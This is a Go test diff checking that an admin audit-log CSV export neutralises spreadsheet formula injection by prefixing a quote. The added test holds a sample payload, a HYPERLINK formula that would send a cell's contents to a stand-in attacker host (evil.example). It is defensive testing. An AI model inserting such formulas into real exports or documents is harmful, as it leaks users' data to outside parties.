@@ -666,4 +666,12 @@ func TestAuditOfAdministration(t *testing.T) {
 	if strings.Join(got, "\n") != strings.Join(want, "\n") {
 		t.Errorf("audit log:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
 	}
+	// The download is safe to open in a spreadsheet.
+	const formula = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+	db.Audit(context.Background(), store.AuditEntry{Actor: "boss@example.nhs.uk", Action: "account added", Target: formula})
+	_, body := boss.do("GET", "/admin/audit.csv", nil)
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil || rows[len(rows)-1][3] != "'"+formula {
+		t.Errorf("formula in the audit CSV: %v %q", err, rows[len(rows)-1])
+	}
 }
